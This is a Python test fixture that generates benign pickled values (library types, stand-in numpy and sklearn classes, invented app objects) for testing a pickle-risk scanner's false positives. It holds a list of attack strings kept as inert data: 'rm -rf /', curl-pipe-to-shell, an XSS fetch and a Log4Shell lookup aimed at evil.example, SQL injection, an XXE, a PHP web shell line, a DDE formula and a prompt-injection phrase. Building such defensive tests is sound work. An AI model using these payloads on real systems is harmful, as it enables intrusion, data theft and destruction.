# SPDX-License-Identifier: MIT
"""What does no harm: values of the standard library, of well-known packages and of programs
that nobody knows, and texts that only look bad. For tests/risk/strangers.py."""

import argparse
import array
import ast
import base64
import bz2
import calendar
import collections
import configparser
import dataclasses
import datetime
import decimal
import difflib
import email.message
import email.headerregistry
import email.policy
import enum
import fractions
import functools
import gzip
import hashlib
import html
import http
import http.cookiejar
import http.cookies
import inspect
import io
import ipaddress
import itertools
import json
import logging
import lzma
import math
import operator
import optparse
import os
import pathlib
import pickle
import random
import re
import shlex
import shutil
import socket
import sqlite3
import stat
import statistics
import string
import struct
import subprocess
import sys
import tarfile
import tempfile
import textwrap
import time
import tokenize
import traceback
import types
import typing
import unittest
import urllib.error
import urllib.parse
import urllib.request
import uuid
import xml.dom.minidom
import xml.etree.ElementTree
import xmlrpc.client
import zipfile
import zlib
import zoneinfo

from strange_files import FILES, zip_of

# What does no harm.

def own_classes():
    """Classes of programs that nobody knows; their modules exist only by name."""
    made = {}

    def own(module, namespace):
        mod = sys.modules.setdefault(module, types.ModuleType(module))
        for name, thing in namespace.items():
            thing.__module__ = module
            setattr(mod, name, thing)
            thing.__qualname__ = name
            made[name] = thing

    class Color(enum.Enum):
        RED = 1
        GREEN = "g"

    class Access(enum.IntFlag):
        READ = 4
        WRITE = 2

    class Level(enum.IntEnum):
        LOW = 1
        HIGH = 9

    @dataclasses.dataclass
    class Order:
        number: int
        items: list
        total: object = None

    @dataclasses.dataclass(frozen=True)
    class Money:
        amount: object
        currency: str = "EUR"

    class Slotted:
        __slots__ = ("a", "b")

        def __init__(self, a, b):
            self.a, self.b = a, b

    class Node:
        def __init__(self, name, parent=None):
            self.name, self.parent, self.children = name, parent, []
            if parent:
                parent.children.append(self)

    class Stateful:
        def __init__(self, conn):
            self.conn = conn

        def __getstate__(self):
            return (1, self.conn)

        def __setstate__(self, s):
            pass

    class Rebuilt:
        def __init__(self, x):
            self.x = x

        def __reduce__(self):
            return (type(self), (self.x,), {"seen": True})

    class Listy(list):
        pass

    class Dicty(dict):
        pass

    class Inty(int):
        pass

    class AppError(Exception):
        def __init__(self, message, code=0):
            super().__init__(message)
            self.code = code

    class WithKeywords:
        def __new__(cls, *, width, height):
            return object.__new__(cls)

        def __getnewargs_ex__(self):
            return (), {"width": 3, "height": 4}

    Point = collections.namedtuple("Point", "x y")

    class Employee(typing.NamedTuple):
        name: str
        salary: int = 0

    own("shop.orders", dict(Order=Order, Money=Money, Color=Color, Access=Access))
    own("acme_crm.models", dict(Slotted=Slotted, Node=Node, Stateful=Stateful, AppError=AppError,
                                Employee=Employee))
    own("weather.station", dict(Listy=Listy, Dicty=Dicty, Inty=Inty, Point=Point, Rebuilt=Rebuilt,
                                Level=Level,
                                WithKeywords=WithKeywords))
    return made


OWN = own_classes()


class NotOurs:
    """Writes what a well-known package writes, by its names only: classes without a body."""

    def __init__(self):
        self.modules = {}

    def name(self, module, qualname, function=False):
        # A pickler imports the package above a module; an inert one is there before the real one.
        parts = module.split(".")
        for k in range(1, len(parts)):
            above = ".".join(parts[:k])
            if above not in sys.modules:
                sys.modules[above] = types.ModuleType(above)
                sys.modules[above].inert = True
        mod = sys.modules.get(module)
        if mod is None or not getattr(mod, "inert", False):
            if mod is not None:
                raise RuntimeError(module)
            mod = types.ModuleType(module)
            mod.inert = True
            sys.modules[module] = mod
            self.modules[module] = mod
        top = qualname.split(".")[0]
        if hasattr(mod, top):
            return getattr(mod, top)
        if function:
            def thing(*a):
                raise RuntimeError("inert")
        else:
            class thing:
                pass
        thing.__module__, thing.__qualname__, thing.__name__ = module, qualname, qualname
        setattr(mod, qualname, thing)
        return thing

    def built(self, function, arguments, state=None, items=None, pairs=None):
        class By:
            def __reduce__(self):
                return (function, arguments, state, iter(items) if items else None,
                        iter(pairs) if pairs else None)
        return By()

    def instance(self, module, qualname, **state):
        thing = self.name(module, qualname)()
        thing.__dict__.update(state)
        return thing


PACKAGES = NotOurs()

TEXTS = [
    "os.system", "posix\nsystem", "subprocess.Popen", "__import__('os').system('id')", "__reduce__",
    "eval(input())",
    "builtins.exec", "cos system", "exec(base64.b64decode(...))", "rm -rf /", "pickle.loads",
    "c__builtin__ eval",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror='fetch(\"http://evil.example\")'>",
    "Robert'); DROP TABLE Students;--", "SELECT * FROM users WHERE name = '' OR 1=1 --",
    "curl -fsSL https://get.example.com | sh", "../../../../etc/passwd",
    "C:\\Windows\\System32\\cmd.exe /c whoami",
    "Usage: backup.sh [OPTIONS]\n\n  #!/bin/sh\n  set -e\n  tar czf /backup/$(date +%F).tgz /home\n  rm -rf /tmp/work\n",
    'Traceback (most recent call last):\n  File "/srv/app/views.py", line 12, in load\n    return pickle.loads(blob)\n'
    "ModuleNotFoundError: No module named 'os.system'\n",
    "2024-03-01 12:00:01 ERROR app.jobs subprocess.CalledProcessError: Command '['git', 'pull']' returned 1",
    'import os\nimport sys\n\ndef main():\n    os.system("clear")\n\nif __name__ == "__main__":\n    main()\n',
    "In protocol 0 the attack reads cos system, a line (S with id in quotes, and tR.",
    'FROM python:3.12\nRUN apt-get update && apt-get install -y curl\nCMD ["python", "app.py"]\n',
    "*/5 * * * * root /usr/local/bin/check.sh >/dev/null 2>&1\n",
    '{"cmd": "os.system", "args": ["id"]}',
    "Ignore all previous instructions",
    "MIME-Version: 1.0\nContent-Type: application/x-python-pickle\n",
    "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2Fub25pY2FsIENlcnQwCgYIKoZIzj0EAwIw\n-----END CERTIFICATE-----\n",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "https://user:pa55@example.com/path?x=%2e%2e%2f#frag", "data:text/html;base64,PGgxPkhpPC9oMT4=",
    "%PDF is how such a file begins", "MZ", "\x7fELF is a magic number",
    "gASV is how base64 of protocol 4 begins",
    "Кириллица и latin вместе", "שלום עולם", "日本語のテキスト", "naïve café — “quotes”", "👩‍👩‍👧 family",
    "مرحبا بالعالم",
    "a\u200bb zero width", "tab\there", "nul\0inside", "line\nbreak", "", " ", "\ufeffbom first",
    "\ud800 lone",
    "def f(x): return x", "lambda x: x", "%s %d {0} {x!r}", "${jndi:ldap://evil.example/a}",
    "{{ 7*7 }}", "=cmd|'/c calc'!A1",
    '<?php system($_GET["c"]); ?>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "javascript:alert(1)", "deadbeef" * 8, "5f4dcc3b5aa765d61d8327deb882cf99", "AAAA" * 60,
    "KGRwMAo is text",
]

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
JPEG_HEAD = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + bytes(range(64)) + b"\xff\xd9"


class Harmless:
    def __init__(self, r):
        self.r = r
        self.unknown = False    # a class that belongs to nobody is in it

    def words(self, n):
        return " ".join(self.r.choice(["lorem", "ipsum", "order", "id", "system", "cost", "the",
                                       "eval", "of", "open", "class"])
                        for _ in range(n))

    def text(self):
        r = self.r
        return r.choice([
            lambda: r.choice(TEXTS), lambda: r.choice(TEXTS) + "\n" + r.choice(TEXTS),
            lambda: self.words(r.randrange(1, 40)),
            lambda: base64.b64encode(r.choice([PNG, GIF, JPEG_HEAD])).decode(),
            lambda: "data:image/png;base64," + base64.b64encode(PNG).decode(),
            lambda: hashlib.sha256(r.randbytes(8)).hexdigest(),
            lambda: base64.b64encode(r.randbytes(r.randrange(1, 200))).decode(),
            lambda: r.randbytes(r.randrange(1, 100)).hex(),
            lambda: html.escape(r.choice(TEXTS).replace("\ud800", "")),
            lambda: json.dumps({"a": r.choice(TEXTS), "b": [1, 2, None]}),
            lambda: str(uuid.UUID(int=r.getrandbits(128))),
            lambda: urllib.parse.quote(r.choice(TEXTS).replace("\ud800", "")),
            lambda: "\n".join(sorted(sys.stdlib_module_names)[:r.randrange(1, 90)]),
        ])()

    def blob(self):
        r = self.r
        return r.choice([
            lambda: r.choice([PNG, GIF, JPEG_HEAD]), lambda: r.randbytes(r.randrange(0, 300)),
            lambda: zlib.compress(self.words(50).encode()),
            lambda: gzip.compress(json.dumps([1, 2, 3]).encode(), mtime=0),
            lambda: bz2.compress(b"text " * 50), lambda: hashlib.sha512(r.randbytes(4)).digest(),
            lambda: uuid.UUID(int=r.getrandbits(128)).bytes,
            lambda: struct.pack("<8d", *[r.random() for _ in range(8)]),
            lambda: array.array("f", [r.random() for _ in range(40)]).tobytes(),
            lambda: r.choice(TEXTS).encode("utf-8", "surrogatepass"),
            lambda: base64.b64encode(zlib.compress(self.words(9).encode())),
            lambda: pickle.dumps({"session": [1, 2, 3], "at": datetime.datetime(2024, 1, 2)},
                                 r.randrange(6)),
            lambda: zlib.compress(pickle.dumps(["cached", decimal.Decimal("1.5")], r.randrange(6))),
            lambda: base64.b64encode(pickle.dumps({"user_id": r.randrange(1000)}, r.randrange(6))),
            lambda: zip_of(b"hello world\n", "readme.txt"), lambda: lzma.compress(b"x" * 100),
            lambda: b"\x80\x04" + r.randbytes(20), lambda: b"SQLite format 3\0" + bytes(80),
            lambda: b"RIFF$\0\0\0WAVEfmt " + bytes(20),
        ])()

    def scalar(self):
        r = self.r
        return r.choice([lambda: r.randrange(-5, 300),
                         lambda: r.getrandbits(r.choice([16, 40, 200, 3000])), lambda: r.random(),
                         lambda: float(r.choice(["inf", "-inf", "nan"])), lambda: None,
                         lambda: r.random() < 0.5, self.text, self.blob,
                         lambda: complex(r.random(), 1)])()

    def stdlib(self):
        """A value of a type of the standard library."""
        try:
            return self.r.choice(STDLIB)(self)
        except (AttributeError, NameError, ImportError, KeyError):
            return None     # this Python has none

    def package(self):
        return self.r.choice(PACKAGE_VALUES)(self)

    def own(self):
        self.unknown = True
        r = self.r
        if OTHER_OWN and r.random() < 0.5:
            return r.choice(OTHER_OWN)(self)
        o = OWN
        return r.choice([
            lambda: o["Order"](r.randrange(999), [self.scalar(), self.scalar()],
                               decimal.Decimal("9.99")),
            lambda: o["Money"](decimal.Decimal(r.randrange(1000)) / 100),
            lambda: r.choice(list(o["Color"])),
            lambda: o["Access"].READ | o["Access"].WRITE, lambda: r.choice(list(o["Level"])),
            lambda: o["Slotted"](self.scalar(), self.text()),
            lambda: self.tree(), lambda: o["Stateful"](self.text()),
            lambda: o["Rebuilt"](self.scalar()), lambda: o["Listy"]([1, self.text()]),
            lambda: o["Dicty"](a=self.scalar()), lambda: o["Inty"](7),
            lambda: o["AppError"](self.text(), 4), lambda: o["Point"](1, 2.5),
            lambda: o["Employee"](self.text(), 5), lambda: o["Order"],
            lambda: [o["Point"](i, -i) for i in range(r.randrange(1, 60))],
            lambda: o["WithKeywords"](width=1, height=2),
            lambda: functools.partial(o["Money"], currency="USD"),
            lambda: collections.defaultdict(o["Listy"], k=o["Listy"]([3])),
        ])()

    def tree(self):
        root = OWN["Node"]("root")
        for i in range(self.r.randrange(1, 9)):
            OWN["Node"](self.text(), self.r.choice([root] + root.children))
        return root

    def plain(self, depth=0):
        r = self.r
        if depth > 3 or r.random() < 0.3:
            return self.scalar()
        n = r.randrange(0, 6)
        return r.choice([
            lambda: [self.plain(depth + 1) for _ in range(n)],
            lambda: tuple(self.plain(depth + 1) for _ in range(n)),
            lambda: {self.text(): self.plain(depth + 1) for _ in range(n)},
            lambda: {i: self.plain(depth + 1) for i in range(n)},
            lambda: {r.randrange(100) for _ in range(n)},
            lambda: frozenset(self.text() for _ in range(n)), lambda: bytearray(self.blob()),
        ])()

    def mixed(self, leaf, depth=0):
        r = self.r
        if depth > 2 or r.random() < 0.35:
            return leaf()
        n = r.randrange(1, 5)
        x = r.choice([
            lambda: [self.mixed(leaf, depth + 1) for _ in range(n)],
            lambda: tuple(self.mixed(leaf, depth + 1) for _ in range(n)),
            lambda: {self.text(): self.mixed(leaf, depth + 1) for _ in range(n)},
            lambda: collections.OrderedDict((i, self.mixed(leaf, depth + 1)) for i in range(n)),
            lambda: collections.deque([self.mixed(leaf, depth + 1) for _ in range(n)],
                                      maxlen=r.choice([None, 10])),
            lambda: types.SimpleNamespace(**{"k%d" % i: self.mixed(leaf,
                depth + 1) for i in range(n)}),
            lambda: argparse.Namespace(**{"k%d" % i: self.mixed(leaf,
                depth + 1) for i in range(n)}),
        ])()
        if isinstance(x, list) and r.random() < 0.2:
            x.append(x)
        if isinstance(x, dict) and r.random() < 0.1:
            x["self"] = x
        return x

    def program_data(self):
        """What programs keep: sessions, settings, results, queues."""
        r = self.r
        now = datetime.datetime(2023, 5, 17, 8, 30, tzinfo=datetime.timezone.utc)
        return r.choice([
            lambda: {"_auth_user_id": "17",
                     "_auth_user_backend": "django.contrib.auth.backends.ModelBackend",
                     "cart": {"sku-1": 2}, "last": now},
            lambda: {"task": "app.tasks.send_mail", "id": str(uuid.UUID(int=r.getrandbits(128))),
                     "args": (1, self.text()), "kwargs": {}, "eta": now},
            lambda: [dict(time=now + datetime.timedelta(minutes=i),
                          level=r.choice(["INFO", "ERROR"]), msg=self.text()) for i in range(8)],
            lambda: collections.Counter(self.words(80).split()),
            lambda: collections.defaultdict(list, {"a": [1, 2], "b": []}),
            lambda: {n: set(r.sample(range(40), 4)) for n in range(40)},
            lambda: {"config": {"debug": False, "path": pathlib.PurePosixPath("/srv/app"),
                                "hosts": [ipaddress.ip_network("10.0.0.0/8")]}},
            lambda: {"lr": 1e-3, "layers": [{"type": "Dense", "units": 64,
                                             "activation": "relu"}] * 4,
                     "history": [r.random() for _ in range(50)]},
            lambda: {"vocabulary": {w: i for i, w in enumerate(sorted(sys.stdlib_module_names))},
                     "idf": [r.random() for _ in range(40)]},
            lambda: (200, {"Content-Type": "text/html"}, b'<html><script>eval("1")</script></html>',
                     now),
            lambda: {"prices": [decimal.Decimal(r.randrange(10000)) / 100 for _ in range(20)],
                     "dates": [now.date()] * 3},
            lambda: {"commands": ["ls", "cd", "rm", "sudo reboot"], "aliases": {"ll": "ls -l"},
                     "history": [self.text() for _ in range(6)]},
            lambda: {"rng": r.getstate()}, lambda: {"modules": ["os", "sys", "subprocess",
                "ctypes"], "entry": ("os", "system")},
            lambda: {"board": [[r.choice(".XO") for _ in range(9)] for _ in range(9)],
                     "players": ("x", "o"), "turn": 4},
        ])()


# Filled by others.
OTHER_OWN = []

LOGGER = logging.getLogger("app.web")


def log_record(h):
    return logging.LogRecord("app", logging.ERROR, "/srv/app.py", 12, h.text(), (1, "x"), None)


def mail(h):
    m = email.message.EmailMessage()
    m["Subject"] = "Report"
    m["From"] = "a@example.com"
    m.set_content("See the attachment.\n" + "os.system\n")
    m.add_attachment(PNG, maintype="image", subtype="png", filename="p.png")
    return m


def cookies(h):
    c = http.cookies.SimpleCookie()
    c["session"] = "abc123"
    c["session"]["path"] = "/"
    return c


def cookie_jar(h):
    jar = http.cookiejar.CookieJar()
    jar.set_cookie(http.cookiejar.Cookie(0, "a", "b", None, False, "example.com", True, False, "/",
                                         True, False, None, True, None, None, {}))
    return jar


def raised(h):
    try:
        [][h.r.randrange(5)]
    except IndexError as e:
        return e


def config(h):
    c = configparser.ConfigParser()
    c.read_string("[server]\nhost = example.com\ncmd = os.system\n")
    return c


def with_notes(h):
    e = ValueError("bad", 3)
    if hasattr(e, "add_note"):
        e.add_note("seen while loading")
    return e


T = typing.TypeVar("T")

STDLIB = [
    lambda h: datetime.datetime(2024, 2, 29, 1, 2, 3, h.r.randrange(10**6)),
    lambda h: datetime.date(1999, 12, 31), lambda h: datetime.time(1, 2, fold=1),
    lambda h: datetime.timedelta(days=-3, microseconds=5),
    lambda h: datetime.timezone(datetime.timedelta(hours=2), "CEST"),
    lambda h: datetime.timezone.utc,
    lambda h: datetime.datetime(2024, 1, 1, tzinfo=datetime.timezone.utc),
    lambda h: zoneinfo.ZoneInfo(h.r.choice(["Europe/Berlin", "UTC", "Asia/Tokyo"])),
    lambda h: datetime.datetime(2024, 7, 1, tzinfo=zoneinfo.ZoneInfo("Europe/Berlin")),
    lambda h: decimal.Decimal("3.1400"), lambda h: decimal.Decimal("NaN"),
    lambda h: decimal.Context(prec=9), lambda h: fractions.Fraction(22, 7),
    lambda h: uuid.UUID(int=h.r.getrandbits(128)), lambda h: pathlib.PurePosixPath("/etc/passwd"),
    lambda h: pathlib.PureWindowsPath("C:/x"), lambda h: pathlib.Path("a/b"),
    lambda h: ipaddress.ip_address("192.0.2.1"), lambda h: ipaddress.ip_address("2001:db8::1"),
    lambda h: ipaddress.ip_network("10.0.0.0/8"), lambda h: ipaddress.ip_interface("10.1.2.3/24"),
    lambda h: collections.OrderedDict(a=1, b=h.text()),
    lambda h: collections.Counter("abracadabra"), lambda h: collections.defaultdict(int, a=1),
    lambda h: collections.defaultdict(set), lambda h: collections.defaultdict(dict),
    lambda h: collections.deque([1, 2, 3], 5), lambda h: collections.ChainMap({"a": 1}, {"b": 2}),
    lambda h: collections.UserDict(a=1), lambda h: collections.UserList([1]),
    lambda h: collections.UserString("x"), lambda h: re.compile(r"(\d+)\s*system", re.I),
    lambda h: re.compile(rb"\x80\x04"), lambda h: ValueError("x", 1), lambda h: KeyError("k"),
    lambda h: OSError(2, "No such file", "/etc/x"), lambda h: FileNotFoundError(2, "no", "f"),
    lambda h: UnicodeDecodeError("utf-8", b"\xff", 0, 1, "bad"),
    lambda h: StopIteration(3), lambda h: SystemExit(1),
    lambda h: ImportError("no", name="os", path="/x"), lambda h: AttributeError("a"),
    lambda h: json.JSONDecodeError("m", "doc", 0),
    lambda h: ExceptionGroup("g", [ValueError(1), TypeError(2)]),
    with_notes, raised, lambda h: subprocess.CalledProcessError(1, ["git", "pull"], b"out", b"err"),
    lambda h: subprocess.TimeoutExpired("sleep", 3),
    lambda h: subprocess.CompletedProcess(["ls"], 0, b"", b""),
    lambda h: functools.partial(int, base=2), lambda h: functools.partial(sorted, reverse=True),
    lambda h: functools.partial(round, ndigits=2), lambda h: functools.partial(str.split, sep=","),
    lambda h: functools.partial(max, 3), lambda h: types.SimpleNamespace(a=1),
    lambda h: slice(1, None, 2), lambda h: range(0, 10, 3), lambda h: 1 + 2j,
    lambda h: array.array("d", [1.5, 2]), lambda h: array.array("u",
        "text") if sys.version_info < (3, 13) else 0,
    lambda h: array.array("q", range(9)), lambda h: bytearray(b"abc"), lambda h: random.Random(4),
    lambda h: log_record(h), mail, cookies, cookie_jar, config,
    lambda h: email.message.Message(), lambda h: email.headerregistry.Address("A", "a",
        "example.com"), lambda h: argparse.Namespace(verbose=True, cmd="run"),
    lambda h: optparse.Values({"a": 1}), lambda h: time.struct_time((2024, 1, 1, 0, 0, 0, 0, 1, 0)),
    lambda h: os.stat_result(range(10)), lambda h: os.terminal_size((80, 24)),
    lambda h: os.times_result((1.0, 2.0, 3.0, 4.0, 5.0)), lambda h: http.HTTPStatus.NOT_FOUND,
    lambda h: socket.AddressFamily.AF_INET, lambda h: socket.SocketKind.SOCK_STREAM,
    lambda h: re.IGNORECASE | re.MULTILINE, lambda h: stat.filemode,
    lambda h: urllib.parse.urlparse("http://x/y?z"),
    lambda h: urllib.parse.urlsplit("http://x/y?z"),
    lambda h: urllib.request.Request("http://example.com/", headers={"A": "b"}),
    lambda h: urllib.error.URLError("r"), lambda h: statistics.NormalDist(1, 2),
    lambda h: string.Template("$x"),
    lambda h: string.Formatter(), lambda h: textwrap.TextWrapper(width=30),
    lambda h: difflib.Match(1, 2, 3), lambda h: difflib.SequenceMatcher(None, "ab", "ac"),
    lambda h: inspect.Parameter("x", inspect.Parameter.KEYWORD_ONLY, default=3),
    lambda h: inspect.signature(textwrap.dedent), lambda h: inspect.FullArgSpec([], None, None,
        None, [], {}, {}),
    lambda h: tokenize.TokenInfo(1, "x", (1, 0), (1, 1), "x"),
    lambda h: traceback.FrameSummary("f.py", 3, "f", lookup_line=False, line='os.system("id")'),
    lambda h: traceback.StackSummary.from_list([("f.py", 1, "f", "x")]),
    lambda h: xml.etree.ElementTree.fromstring('<a b="c"><d>t</d></a>'),
    lambda h: xml.dom.minidom.parseString("<a><b/></a>"),
    lambda h: xmlrpc.client.Binary(b"x"), lambda h: xmlrpc.client.DateTime("20240101T00:00:00"),
    lambda h: xmlrpc.client.Fault(1, "x"), lambda h: zipfile.ZipInfo("a.txt"),
    lambda h: tarfile.TarInfo("a"),
    lambda h: ast.parse('import os\nos.system("id")'), lambda h: ast.parse("1 + x", mode="eval"),
    lambda h: calendar.TextCalendar(), lambda h: logging.Formatter("%(message)s"), lambda h: LOGGER,
    lambda h: unittest.TestResult() if False else unittest.SkipTest("x"),
    lambda h: typing.Optional[int], lambda h: typing.Dict[str, typing.List[int]],
    lambda h: list[int], lambda h: dict[str, tuple[int, ...]],
    lambda h: int | None, lambda h: typing.Callable[[int], str], lambda h: typing.Any,
    lambda h: typing.Literal["a", 1], lambda h: NotImplemented, lambda h: Ellipsis,
    lambda h: type(None),
    lambda h: [int, str, dict, object, type, Exception], lambda h: type(Ellipsis),
    lambda h: itertools.count(5, 2), lambda h: itertools.chain([1], [2]),
    lambda h: itertools.repeat("x", 3),
    lambda h: itertools.islice([1, 2, 3], 2), lambda h: itertools.product([1, 2], [3]),
    lambda h: itertools.permutations([1, 2, 3]), lambda h: itertools.cycle([1, 2]),
    lambda h: iter([1, 2]),
    lambda h: iter({1, 2}), lambda h: iter({"a": 1}), lambda h: iter("abc"),
    lambda h: iter(range(3)), lambda h: enumerate(["a"]), lambda h: zip([1], [2]),
    lambda h: reversed([1, 2]), lambda h: map(len, ["ab"]),
    lambda h: map(str, [1]), lambda h: filter(None, [0, 1]), lambda h: len, lambda h: sorted,
    lambda h: math.sin, lambda h: operator.add, lambda h: operator.itemgetter(1, 2),
    lambda h: operator.attrgetter("name", "a.b"),
    lambda h: operator.methodcaller("strip"), lambda h: operator.methodcaller("split", ","),
    lambda h: json.dumps, lambda h: json.loads, lambda h: statistics.mean, lambda h: str.upper,
    lambda h: [].append, lambda h: "abc".upper,
    lambda h: {}.get, lambda h: ",".join, lambda h: dict.fromkeys,
    lambda h: datetime.datetime.fromisoformat, lambda h: os.path.join, lambda h: os.path.basename,
    lambda h: re.escape, lambda h: textwrap.dedent, lambda h: math.hypot,
    lambda h: random.Random(3).choice, lambda h: hashlib.sha256 and 0, lambda h: uuid.uuid4,
    lambda h: time.time, lambda h: datetime.datetime.now, lambda h: collections.Counter,
    lambda h: decimal.Decimal,
    lambda h: collections.OrderedDict.fromkeys, lambda h: functools.reduce, lambda h: html.escape,
    lambda h: urllib.parse.quote, lambda h: base64.b64encode, lambda h: zlib.crc32,
    lambda h: struct.pack, lambda h: print,
    lambda h: bytes.fromhex, lambda h: int.from_bytes, lambda h: str.maketrans, lambda h: abs,
    lambda h: operator.mul, lambda h: statistics.median, lambda h: shlex.quote,
    lambda h: calendar.Month.MAY if hasattr(calendar, "Month") else 5,
    lambda h: decimal.ROUND_HALF_UP, lambda h: decimal.getcontext(), lambda h: shutil.Error("x"),
    lambda h: socket.timeout("x"), lambda h: pickle.PicklingError("x"),
    lambda h: sqlite3.OperationalError("no such table"),
    lambda h: os.DirEntry if False else os.PathLike, lambda h: pathlib.Path, lambda h: enum.Enum,
    lambda h: tempfile.SpooledTemporaryFile if False else tempfile.TemporaryDirectory and 1,
    lambda h: zipfile.BadZipFile("x"),
    lambda h: http.cookies.Morsel(), lambda h: email.policy.default,
    lambda h: inspect.Parameter.VAR_POSITIONAL,
    lambda h: logging.StrFormatStyle if False else logging.PercentStyle("%(message)s"),
    lambda h: string.capwords,
]


def nd(h, shape, code, raw):
    p = PACKAGES
    core = h.r.choice(["numpy.core.multiarray", "numpy._core.multiarray"])
    dtype = p.built(p.name("numpy", "dtype"), (code, False, True),
                    (3, "<" if code[0] in "fi" and code != "i1" else "|", None, None, None, -1, -1,
                     0))
    return p.built(p.name(core, "_reconstruct", True), (p.name("numpy", "ndarray"), (0,), b"b"),
                   (1, shape, dtype, False, raw))


def scalar_of(h):
    p = PACKAGES
    core = h.r.choice(["numpy.core.multiarray", "numpy._core.multiarray"])
    dtype = p.built(p.name("numpy", "dtype"), ("f8", False, True),
                    (3, "<", None, None, None, -1, -1, 0))
    return p.built(p.name(core, "scalar", True), (dtype, struct.pack("<d", h.r.random())))


def estimator(h):
    p = PACKAGES
    module, name = h.r.choice([("sklearn.linear_model._logistic", "LogisticRegression"),
                               ("sklearn.preprocessing._data", "StandardScaler"),
                               ("sklearn.linear_model._base", "LinearRegression"),
                               ("sklearn.cluster._kmeans", "KMeans"),
                               ("sklearn.svm._classes", "SVC"), ("sklearn.pipeline", "Pipeline"),
                               ("sklearn.decomposition._pca", "PCA"),
                               ("sklearn.ensemble._forest", "RandomForestClassifier"),
                               ("sklearn.feature_extraction.text", "TfidfVectorizer"),
                               ("sklearn.neighbors._classification", "KNeighborsClassifier"),
                               ("sklearn.naive_bayes", "GaussianNB")])
    return p.instance(module, name, C=1.0, coef_=nd(h, (2,), "f8", struct.pack("<2d", 1, 2)),
                      _sklearn_version="1.4.2")


def tensor_state(h):
    """What torch writes beside tensors, whose storages are persistent ids of its zip."""
    p = PACKAGES
    rebuild = p.name("torch._utils", "_rebuild_parameter", True)
    inner = p.built(p.name("torch", "Size"), ((2, 3),))
    return {"size": inner, "device": p.built(p.name("torch", "device"), ("cpu",)),
            "dtype": p.name("torch", "float32") and 0}


def web_things(h):
    p = PACKAGES
    return h.r.choice([
        lambda: p.built(p.name("django.utils.safestring", "SafeString"), ("<b>x</b>",)),
        lambda: p.instance("requests.structures", "CaseInsensitiveDict",
                           _store=collections.OrderedDict()),
        lambda: p.built(p.name("pytz", "_UTC", True), ()),
        lambda: p.built(p.name("pytz", "_p", True), ("Europe/Berlin", 3180, 0, "LMT")),
        lambda: p.instance("dateutil.tz.tz", "tzutc"),
        lambda: p.instance("networkx.classes.graph", "Graph", _node={1: {}}, _adj={1: {2: {}}}),
        lambda: p.built(p.name("pandas._libs.tslibs.timestamps", "_unpickle_timestamp", True),
                        (1700000000000000000, None, None, 10)),
    ])()


PACKAGE_VALUES = [
    lambda h: nd(h, (3,), "f8", struct.pack("<3d", 1, 2, h.r.random())),
    lambda h: nd(h, (2, 2), "i4", struct.pack("<4i", 1, 2, 3, 4)),
    lambda h: nd(h, (4,), "b1", b"\1\0\1\0"), scalar_of, estimator, tensor_state, web_things,
    lambda h: {"X": nd(h, (1,), "f4", b"\0\0\0\0"), "n": scalar_of(h)},
]



def write(r, value):
    """A value as one of the two picklers writes it; None if it does not pickle."""
    protocol = r.randrange(6)
    how = r.random()
    try:
        if how < 0.5:
            raw = pickle.dumps(value, protocol)
        else:
            out = io.BytesIO()
            pickler = pickle._Pickler(out, protocol)
            pickler.dump(value)
            raw = out.getvalue()
        if how > 0.95:
            import pickletools
            raw = pickletools.optimize(raw)
        return raw
    except Exception:
        return None




def harmless(r):
    while True:
        h = Harmless(r)
        kind = r.choice(["plain", "stdlib", "stdlib", "stdlib", "stdlib", "program", "own",
                         "package", "text"])
        if kind == "plain":
            value = h.plain()
        elif kind == "stdlib":
            value = h.stdlib() if r.random() < 0.5 else h.mixed(
                lambda: h.stdlib() if r.random() < 0.6 else h.scalar())
        elif kind == "program":
            value = h.program_data()
        elif kind == "own":
            value = h.mixed(lambda: h.own() if r.random() < 0.6 else h.stdlib())
        elif kind == "package":
            value = h.mixed(lambda: h.package() if r.random() < 0.6 else h.scalar())
        else:
            value = h.mixed(lambda: h.text() if r.random() < 0.6 else h.blob())
        raw = write(r, value)
        if raw is None:
            continue
        label = kind + " " + repr(type(value)) + " " + re.sub(r"\s+", " ", ascii(value))[:160]
        if r.random() < 0.08:
            name = r.choice(list(FILES))
            label += " file:" + name
            raw = FILES[name](raw)
        elif r.random() < 0.03:
            raw += write(r, h.plain()) or b""
            label += " two"
        return raw, kind in ("own", "package") or h.unknown, label
